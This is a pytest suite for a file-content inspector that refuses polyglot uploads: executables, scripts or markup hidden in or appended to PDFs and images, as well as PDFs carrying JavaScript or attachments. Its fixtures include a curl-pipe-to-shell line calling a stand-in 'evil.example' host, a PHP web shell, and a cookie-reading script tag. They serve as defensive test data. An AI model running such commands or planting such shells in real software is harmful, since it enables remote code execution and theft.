"""Job files are read whole: real files pass, polyglots and programs are refused."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from app.jobs.file_content import ContentRefused, find_program, inspect

# The start of a 64-bit Linux program, and of a Windows one (DOS header whose e_lfanew
# points at the PE signature).
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
PE = b"MZ\x90\x00" + b"\x00" * 56 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 64
SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"


def pdf(*, javascript: bool = False, attachment: bytes | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi');"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if attachment is not None:
        writer.add_attachment("payload.bin", attachment)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_stream(payload: bytes) -> bytes:
    """A well-formed PDF whose one page's (uncompressed) content stream holds `payload`."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    stream = DecodedStreamObject()
    stream.set_data(payload)
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image(fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 40, 40)).save(out, fmt, **options)
    return out.getvalue()


def png_with_text(text: bytes) -> bytes:
    """A PNG whose tEXt chunk (inside the image, before IEND) holds `text`."""
    from PIL.PngImagePlugin import PngInfo  # noqa: PLC0415 - only here

    info = PngInfo()
    info.add_text("Comment", text.decode("latin-1"))
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


GOOD: dict[str, Callable[[], bytes]] = {
    "application/pdf": pdf,
    "image/png": lambda: image("PNG"),
    "image/jpeg": lambda: image("JPEG"),
    "image/gif": lambda: image("GIF"),
    "image/webp": lambda: image("WEBP"),
    "text/plain": lambda: bytes("Stock checked — 12 left.\n", "utf-8"),
    "text/csv": lambda: b"sku,qty\nLAMP-1,2\n",
}


@pytest.mark.parametrize("kind", sorted(GOOD))
def test_a_real_file_of_each_type_passes(kind: str) -> None:
    inspect(kind, GOOD[kind]())


def test_a_progressive_jpeg_and_an_animated_gif_pass() -> None:
    inspect("image/jpeg", image("JPEG", progressive=True, quality=70))
    frames = [Image.new("P", (8, 8), colour) for colour in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], comment=b"hello")
    inspect("image/gif", out.getvalue())


# (name, kind, bytes, words the reason must contain)
POLYGLOTS: list[tuple[str, str, bytes, str]] = [
    ("PDF header then a Linux program", "application/pdf", b"%PDF-1.7\n" + ELF, "ELF"),
    ("PDF header then a Windows program", "application/pdf", b"%PDF-1.4\n%" + PE, "PE"),
    ("PDF header then a script", "application/pdf", b"%PDF-1.4\n" + SCRIPT, "script"),
    ("PDF header and nothing else", "application/pdf", b"%PDF-1.7\n" + b"x" * 100, "end marker"),
    ("real PDF, program inside a stream", "application/pdf", pdf_with_stream(ELF), "ELF"),
    ("real PDF, page inside a stream", "application/pdf", pdf_with_stream(PAGE), "markup"),
    ("real PDF, program after %%EOF", "application/pdf", pdf() + PE, "PE"),
    ("real PDF, ZIP after %%EOF", "application/pdf", pdf() + b"PK\x03\x04zip", "after"),
    ("real PDF with JavaScript", "application/pdf", pdf(javascript=True), "JavaScript"),
    ("real PDF with an attached file", "application/pdf", pdf(attachment=b"hi"), "attached"),
    ("broken PDF cross-references", "application/pdf", pdf().replace(b"xref", b"xraf"), "PDF"),
    ("PNG then a program", "image/png", image("PNG") + ELF, "ELF"),
    ("PNG then a ZIP", "image/png", image("PNG") + b"PK\x03\x04" + b"z" * 40, "after"),
    (
        "PNG then a fake end chunk",
        "image/png",
        image("PNG") + b"junk\0\0\0\0IEND\xaeB`\x82",
        "after",
    ),
    ("PNG with a page in a text chunk", "image/png", png_with_text(PAGE), "markup"),
    ("JPEG then a PHP page", "image/jpeg", image("JPEG") + b"<?php system($_GET[c]); ?>", "markup"),
    (
        "JPEG then data and another end",
        "image/jpeg",
        image("JPEG") + b"PK\x03\x04\xff\xd9",
        "after",
    ),
    ("GIF then a script", "image/gif", image("GIF") + b"\n" + SCRIPT, "script"),
    ("GIF then a ZIP", "image/gif", image("GIF") + b"PK\x03\x04" + b"z" * 40, "after"),
    ("WebP then data", "image/webp", image("WEBP") + b"PK\x03\x04zipzip", "length"),
    ("a PNG said to be a JPEG", "image/jpeg", image("PNG"), "JPEG"),
    ("a cut-short PNG", "image/png", image("PNG")[:-20], "cut short"),
    ("text that is a program", "text/plain", ELF, "ELF"),
    ("text that is a script", "text/plain", SCRIPT, "script"),
    ("text with NUL bytes", "text/csv", b"a,b\n\x00\x00", "NUL"),
    ("text that is not UTF-8", "text/plain", b"caf\xe9", "UTF-8"),
]


@pytest.mark.parametrize(
    ("kind", "data", "reason"), [c[1:] for c in POLYGLOTS], ids=[c[0] for c in POLYGLOTS]
)
def test_polyglots_and_programs_are_refused(kind: str, data: bytes, reason: str) -> None:
    with pytest.raises(ContentRefused, match=reason):
        inspect(kind, data)


def test_an_unchecked_type_still_gets_the_program_scan() -> None:
    inspect("application/zip", b"PK\x03\x04 harmless")
    with pytest.raises(ContentRefused, match="PE"):
        inspect("application/zip", b"PK\x03\x04" + PE)


def test_random_bytes_do_not_look_like_programs() -> None:
    # Compressed data (a PDF's streams, an image's pixels) is close to random: the scan
    # must not see programs in it. A fixed seed keeps the test stable.
    import random  # noqa: PLC0415 - only here

    noise = random.Random(20261216).randbytes(4 * 1024 * 1024)
    assert find_program(noise) is None


def test_pdf_metadata_text_is_not_mistaken_for_markup() -> None:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Title": "Order <12> for A & B", "/Subject": "a <b> c"})
    writer._root_object[NameObject("/Lang")] = TextStringObject("en-GB")
    writer._root_object[NameObject("/ViewerPreferences")] = DictionaryObject()
    out = io.BytesIO()
    writer.write(out)
    inspect("application/pdf", out.getvalue())
